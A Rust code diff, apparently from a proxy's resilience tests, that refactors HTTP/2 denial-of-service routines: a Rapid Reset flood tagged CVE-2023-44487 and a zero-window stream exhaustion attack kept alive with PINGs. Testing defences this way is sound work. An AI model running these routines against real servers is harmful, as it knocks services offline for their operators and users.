@@ -152,9 +152,8 @@ fn request(path: &str) -> Vec<u8> {
         ("user-agent", "BadBot/1.0"),
     ];
     let fields = fields.iter();
-    fields
-        .flat_map(|(name, value)| literal(name, value))
-        .collect()
+    let encoded = fields.flat_map(|(name, value)| literal(name, value));
+    encoded.collect()
 }
 
 fn open(stream: u32, path: &str) -> Vec<u8> {
@@ -163,12 +162,8 @@ fn open(stream: u32, path: &str) -> Vec<u8> {
 
 // CVE-2023-44487.
 async fn rapid_reset(proxy: Arc<Proxy>) {
-    let reset = |stream| {
-        [
-            open(stream, "/page"),
-            frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]),
-        ]
-    };
+    let cancel = |stream| frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
+    let reset = |stream| [open(stream, "/page"), cancel(stream)];
     flood_streams(proxy, |stream| reset(stream).concat()).await;
 }
 
@@ -219,16 +214,11 @@ async fn window_zero(proxy: Arc<Proxy>) {
     let Some(mut stream) = h2(&proxy, &setting).await else {
         return;
     };
-    for number in 0..100 {
-        if stream
-            .write_all(&open(2 * number + 1, "/endless"))
-            .await
-            .is_err()
-        {
-            return;
-        }
+    let requests = (0..100).flat_map(|number| open(2 * number + 1, "/endless"));
+    let requests: Vec<u8> = requests.collect();
+    if stream.write_all(&requests).await.is_err() || stream.flush().await.is_err() {
+        return;
     }
-    let _ = stream.flush().await;
     // Scripted load: PINGs keep the connection from looking idle.
     while stream.write_all(&frame(PING, 0, 0, &[7; 8])).await.is_ok() {
         sleep(Duration::from_millis(100)).await;
